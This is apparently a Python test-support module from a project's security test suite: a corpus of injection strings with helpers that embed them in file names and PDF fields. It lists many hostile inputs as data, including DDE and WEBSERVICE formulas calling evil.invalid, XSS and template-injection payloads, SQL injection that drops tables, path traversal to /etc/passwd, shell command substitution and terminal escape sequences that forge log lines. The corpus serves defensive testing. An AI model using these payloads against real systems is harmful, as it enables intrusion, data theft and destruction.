"""Injections: a golden corpus of texts that try to become something else, in files that bring them.

``INJECTIONS`` holds every text with its family and what it would do if a sink let it. They come as
names of files (``as_name``), inside PDFs (``inject`` writes them wherever a PDF can carry text) and
as messages of a database. None of them does harm where it succeeds: scripts set a mark that
``MARK`` names, addresses lie below ``evil.invalid``, which resolves nowhere, and programs are
``calc``.

The corpus is the yardstick of `tests/security`: a new sink is tested by all of it, and an attack
that anyone reports is added here first.
"""

import re
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any, Literal

import pymupdf

from core.text import legible, well_formed

Family = Literal[
    "formula", "html", "template", "json", "markdown", "terminal", "markup", "sql", "path"
]
HOST = "evil.invalid"
"""Where every address of the corpus leads."""

MARK = "quire_was_injected"
"""The global variable that every script of the corpus sets."""

_RUN = f"{MARK}=1"


@dataclass(frozen=True)
class Injection:
    """A hostile text.

    Attributes:
        family: Whose language it speaks.
        text: What is brought in.
        would: What happens where it is not made inert.
    """

    family: Family
    text: str
    would: str


def _each(family: Family, *cases: tuple[str, str]) -> tuple[Injection, ...]:
    return tuple(Injection(family, text, would) for text, would in cases)


INJECTIONS: tuple[Injection, ...] = (
    *_each(
        "formula",
        ("=cmd|' /C calc'!A0", "starts a program by DDE"),
        ('=HYPERLINK("http://evil.invalid/?"&A1,"open")', "sends a cell away when clicked"),
        ("=WEBSERVICE(CONCATENATE(\"http://evil.invalid/\",A1))", "sends a cell away on opening"),
        ('=DDE("cmd";"/C calc";"x")', "starts a program in LibreOffice"),
        ("=IMPORTXML(CONCAT(\"http://evil.invalid/\",A1),\"//a\")", "sends a cell away in Sheets"),
        ("+1+cmd|' /C calc'!A0", "is a formula by its plus"),
        ("-2+3+cmd|' /C calc'!A0", "is a formula by its minus"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "is a formula by its at sign"),
        ("\t=1+1", "is a formula after a tab"),
        ("\r=1+1", "is a formula after a carriage return"),
        ("\n=1+1", "begins a row"),
        ("  =1+1", "is a formula where cells are trimmed"),
        ("\u00a0=1+1", "is a formula where cells are trimmed of hard spaces"),
        ("\u3000=1+1", "is a formula where cells are trimmed of wide spaces"),
        ("\ufeff=1+1", "is a formula after a byte order mark"),
        ("\u200b=1+1", "is a formula after a space of no width"),
        ("\x00=1+1", "is a formula where NULs are dropped"),
        ('"=1+1', "is a formula where quotes are dropped"),
        ("'=1+1", "looks as if it had been guarded"),
        ('"\t=1+1', "leaves a quoted field"),
        ('","=1+1', "leaves a quoted field where commas separate"),
        ("a,=1+1", "begins a cell where commas separate"),
        ("a;=1+1", "begins a cell where semicolons separate"),
        ("a|=1+1", "begins a cell where bars separate"),
        ("a\t=1+1", "begins a cell"),
        ("\uff1d1+1", "is a formula in full-width letters"),
        ("\uff0b1", "is a formula in full-width letters"),
        ("\uff0d1", "is a formula in full-width letters"),
        ("\uff20SUM(1)", "is a formula in full-width letters"),
        ("\ufe66\u200a1+1", "is a formula in small letters"),
        ("%0A=1+1", "begins a row where it is decoded"),
    ),
    *_each(
        "html",
        (f"<script>{_RUN}</script>", "runs"),
        (f"</script><script>{_RUN}</script>", "leaves embedded JSON and runs"),
        (f"</style><script>{_RUN}</script>", "leaves a style and runs"),
        (f"</title><script>{_RUN}</script>", "leaves the title and runs"),
        (f"</textarea></select></svg><img src=x onerror={_RUN}>", "leaves an element and runs"),
        (f"--><script>{_RUN}</script><!--", "leaves a comment and runs"),
        (f"]]><script>{_RUN}</script>", "leaves character data and runs"),
        (f'"><img src=x onerror={_RUN}>', "leaves a quoted attribute and runs"),
        (f"'><svg/onload={_RUN}>", "leaves an attribute in single quotes and runs"),
        (f"x onmouseover={_RUN} autofocus onfocus={_RUN}", "leaves a bare attribute and runs"),
        (f'" autofocus onfocus="{_RUN}', "adds an attribute that runs"),
        (f"`onload={_RUN}", "leaves an attribute in back quotes"),
        (f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", "runs in an SVG"),
        (f"<math><mtext><style><img src=x onerror={_RUN}>", "runs after a parser's change of mind"),
        (f'<iframe srcdoc="<script>parent.{_RUN}</script>">', "runs in a frame"),
        ("<img src=//evil.invalid/pixel.png>", "asks the network for a picture"),
        ("<link rel=stylesheet href=//evil.invalid/a.css>", "asks the network for a style"),
        ("<meta http-equiv=refresh content='0;url=//evil.invalid/'>", "leads elsewhere"),
        ("<base href=//evil.invalid/>", "leads every address elsewhere"),
        ("<form action=//evil.invalid/><input name=q>", "sends what is typed away"),
        ("&lt;script&gt;&#60;b&#62;&amp;amp;", "becomes markup where it is decoded twice"),
        (f"javascript:{_RUN}", "runs as an address"),
        (f"java\tscript:{_RUN}", "runs as an address with a tab in it"),
        (f"data:text/html,<script>{_RUN}</script>", "runs as a page of its own"),
        (f"data:image/svg+xml,<svg onload={_RUN} xmlns='http://www.w3.org/2000/svg'/>", "runs"),
        ("}body{background:url(//evil.invalid/a.png)}", "asks the network from a style"),
        ("@import url(//evil.invalid/a.css);", "asks the network from a style"),
        ("x;width:expression(alert(1))", "runs in a style of old browsers"),
        ("\u2028\u2029'+alert(1)+'", "ends a line of old scripts"),
    ),
    *_each(
        "template",
        ("{{ 7*7 }}{% raw %}{# x #}", "is computed by Jinja2"),
        ("{{ ''.__class__.__mro__ }}", "is computed by Jinja2"),
        (f"{{{{constructor.constructor('{_RUN}')()}}}}", "is computed in the browser"),
        ("${7*7}#{7*7}<%= 7*7 %>", "is computed by other templates"),
        ("%s%n%(name)s{0}{name!r}{x.__init__}$HOME", "is filled in as a format"),
    ),
    *_each(
        "json",
        ('"},"status":"ok","pairs":[],"x":{"', "closes its object"),
        ('\\"},"status":"ok', "closes its object after a spelled quote"),
        ("\\u0022,\\u0000\\ud800", "becomes what it spells"),
        ("lone\ud800high", "is half a character"),
        ("lone\udc80low", "is a byte that is no UTF-8"),
        ("next\x85line\u2028separator\u2029paragraph\x0bvertical\x0cfeed", "breaks lines"),
        ("nul\x00byte", "ends a text where NUL ends texts"),
        ("__proto__", "is every object where keys are made of names"),
        ("NaN", "is no number"),
    ),
    *_each(
        "markdown",
        (f"[click](javascript:{_RUN})", "is a link that runs"),
        ("![pixel](http://evil.invalid/pixel.png)", "asks the network for a picture"),
        ("[here](https://evil.invalid/)", "is a link that leads elsewhere"),
        ("[x]: http://evil.invalid/ 'y'", "gives other texts an address"),
        ("<https://evil.invalid/> https://evil.invalid/ www.evil.invalid", "becomes a link"),
        ("someone@evil.invalid", "becomes a link"),
        ("a | b | c |\n|---|---|---|", "adds cells and rows"),
        ("# head\n\n---\n\n```", "takes the rest of the text in"),
        ("**bold** _slanted_ ~~gone~~ $x^2$", "is set in other letters"),
        (f"<details open ontoggle={_RUN}>", "runs in a text that may hold HTML"),
    ),
    *_each(
        "terminal",
        ("\x1b[31mred\x1b[0m", "colours what follows"),
        ("\x1b[2J\x1b[1;1H", "clears the screen"),
        ("\x1b]0;title\x07", "renames the window"),
        ("\x1b]8;;http://evil.invalid/\x1b\\click\x1b]8;;\x1b\\", "is a link that hides where to"),
        ("\x1b]52;c;Y2FsYw==\x07", "writes to the clipboard"),
        ("\x1bP+q544e\x1b\\\x1b[6n\x1b[c", "has the terminal type an answer"),
        ("\x9b31m\x9d0;t\x9c", "does the same in one byte"),
        ("failed\rfinished", "overwrites the line"),
        ("abc\x08\x08\x08xyz\x7f", "deletes what was written"),
        ("a\nquire: finished, everything was looked at", "forges a line"),
        ("a\r\n2026-01-01 00:00:00 +0000 - dagster - INFO - RUN_SUCCESS", "forges a line of a log"),
        ("paper\u202efdp.exe", "shows another ending"),
        ("\u2066\u2069\u200f\u061c\u202a", "turns the direction of what follows"),
        ("a\u200bb\u00adc\u2060d\ufe0fe\u3164f\U000e0061", "holds what nobody sees"),
        ("bell\x07\x07\x0e\x0f", "rings, and changes the character set"),
    ),
    *_each(
        "markup",
        ("[bold red]loud[/bold red]", "is set in other letters by Rich"),
        ("[/bold]", "closes what is not open, which is an error in Rich"),
        ("[/]", "closes what is not open, which is an error in Rich"),
        ("[link=http://evil.invalid/]x[/link]", "is a link on the terminal"),
        ("[@click=app.bell]x[/]", "acts in a program made with Textual"),
        (":warning: :skull:", "becomes another sign"),
        ("\\[bold]", "is the spelling of a bracket"),
    ),
    *_each(
        "sql",
        ("'; DROP TABLE documents; --", "ends a text and drops a table"),
        ("\\'; DROP TABLE documents; --", "ends a text by a spelled quote"),
        ('"; DROP TABLE documents; --', "ends a name and drops a table"),
        ("$$; DROP TABLE documents; $$", "ends a text in dollars"),
        ("$1 %s %(document_id)s %% :name ?", "is a place for a value"),
        ("' OR '1'='1", "is always true"),
        ("%' ESCAPE '_", "matches everything"),
        ("\\N\t\\.\n", "ends a COPY"),
        ("{1,2},\"", "is an array"),
        ("0x27; SELECT pg_sleep(60)", "waits"),
    ),
    *_each(
        "path",
        ("../../etc/passwd", "leads out of its folder"),
        ("..\\..\\windows\\system.ini", "leads out of its folder"),
        ("%2e%2e%2fetc%2fpasswd", "leads out of its folder where it is decoded"),
        ("--help", "is an option"),
        ("-rf", "is an option"),
        ("$(touch injected) `touch injected`; touch injected", "is run by a shell"),
        ("~root", "is a home"),
        ("*?[a-z]", "matches other files"),
        ("file:///etc/passwd", "is an address"),
        ("s3://evil.invalid/x", "is an address"),
        ("n" * 300, "is longer than names are"),
        ("\u05de\u05d0\u05de\u05e8 \u0645\u0642\u0627\u0644\u0629 \u8ad6\u6587", "is a good name"),
    ),
)  # fmt: skip
"""The corpus. Order and texts are stable; add at the end of a family."""

FAMILIES: tuple[Family, ...] = tuple(dict.fromkeys(one.family for one in INJECTIONS))

NAME_BYTES = 255
"""Of a file name, on every common file system of Linux and macOS."""


def of_family(family: Family) -> list[str]:
    """The texts of one family."""
    return [one.text for one in INJECTIONS if one.family == family]


def as_name(text: str, suffix: str = ".pdf") -> str:
    """The text as the name of a file: no slash, no NUL, no longer than names may be.

    A slash becomes a division slash, which looks like one; a NUL and half a character that stands
    for no byte are left out.
    """
    legal = re.sub("[\x00\ud800-\udc7f\udd00-\udfff]", "", text.replace("/", "\u2215"))
    encoded = legal.encode("utf-8", "surrogateescape")[: NAME_BYTES - len(suffix)]
    return encoded.decode("utf-8", "surrogateescape") + suffix


def inject(pdf: bytes, texts: Sequence[str]) -> bytes:
    """A PDF that carries the texts wherever a PDF can carry text.

    Title, author and the other metadata, words and captions on the last page, bookmarks, notes,
    links, the name of an attachment, and names in the page's drawing commands, which the parser
    quotes when it complains about them. The pictures stay as they are.
    """
    doc: Any = pymupdf.open(stream=pdf, filetype="pdf")
    whole = " ".join(texts)
    info = doc.get_new_xref()
    fields = ("Title", "Author", "Subject", "Keywords", "Creator", "Producer")
    doc.update_object(info, "<< " + " ".join(f"/{key} {_string(whole)}" for key in fields) + " >>")
    doc.xref_set_key(-1, "Info", f"{info} 0 R")
    page = doc[-1]
    for number, text in enumerate(texts):
        line = f"Figure {number + 1}. {well_formed(text)}".replace("\x00", "")
        page.insert_text((40, 775 - 6 * number), line, fontsize=4)
        note = page.add_text_annot((600, 20 + 6 * number), "x")
        doc.xref_set_key(note.xref, "Contents", _string(text))
        doc.xref_set_key(note.xref, "T", _string(text))
        link = {"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(0, 0, 9, 9), "uri": legible(text)}
        page.insert_link(link)
    doc.set_toc([[1, legible(text), 1] for text in texts])
    doc.embfile_add("attached", b"nothing", filename=legible(whole), desc=legible(whole))
    contents = page.get_contents()
    drawing = doc.get_new_xref()
    doc.update_object(drawing, "<<>>")
    commands = b"".join(b"%s Do " % _name(text) for text in texts)
    doc.update_stream(drawing, b" " + commands + b"/#ff#fe#ed#a0#80 Do ")
    kept = " ".join(f"{xref} 0 R" for xref in [*contents, drawing])
    doc.xref_set_key(page.xref, "Contents", f"[{kept}]")
    written = doc.tobytes(deflate=True, no_new_id=True)
    doc.close()
    return written


def _string(text: str) -> str:
    """A PDF string in UTF-16, unpaired surrogates and NULs included."""
    return f"<feff{text.encode('utf-16-be', 'surrogatepass').hex()}>"


def _name(text: str) -> bytes:
    """A PDF name; its length is limited to 127 bytes."""
    encoded = text.encode("utf-8", "surrogatepass").replace(b"\x00", b"")[:100]
    return b"/" + b"".join(b"#%02x" % byte for byte in encoded)
